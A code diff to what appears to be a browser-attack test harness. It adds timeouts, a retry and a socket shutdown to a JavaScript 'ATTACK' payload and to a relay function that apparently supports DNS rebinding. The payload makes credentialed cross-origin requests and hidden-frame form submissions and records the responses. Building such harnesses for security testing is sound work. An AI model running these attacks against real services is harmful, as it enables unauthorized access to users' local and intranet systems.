@@ -12,11 +12,14 @@ ATTACK = """
 (async () => {
   const ui = %(ui)s, got = [];
   const note = (what, text) => got.push([what, String(text)]);
-  const tried = async (what, url, options) => {
+  const tried = async (what, url, options, again) => {
     try {
-      const answer = await fetch(url, { credentials: "include", ...options });
+      const answer = await fetch(url, { credentials: "include", signal: AbortSignal.timeout(10000), ...options });
       note(what, answer.status + " " + await answer.text());
-    } catch (error) { note(what, "error"); }
+    } catch (error) {
+      if (error.name === "TimeoutError" && !again) return tried(what, url, options, true);
+      note(what, "error");
+    }
   };
   const loaded = (what, element) => new Promise((resolve) => {
     element.onload = () => { note(what, "loaded " + (element.contentDocument?.body?.innerText ?? "")); resolve(); };
@@ -43,7 +46,7 @@ ATTACK = """
   document.body.append(sent);
   const answered = new Promise((resolve) => { hidden.onload = resolve; });
   sent.submit();
-  await answered;
+  await Promise.race([answered, new Promise((resolve) => setTimeout(resolve, 10000))]);
   let shown = "nothing";
   try { shown = hidden.contentDocument.body.innerText; } catch { }
   note("form", shown);
@@ -97,6 +100,8 @@ def _answer(connection: socket.socket, rebound_to: tuple[str, int]) -> None:
             onward.sendall(request)
             threading.Thread(target=_copy, args=(connection, onward), daemon=True).start()
             _copy(onward, connection)
+            with suppress(OSError):
+                connection.shutdown(socket.SHUT_RDWR)  # a thread that reads from it would keep it open to the browser
 
 
 def _copy(source: socket.socket, target: socket.socket) -> None:
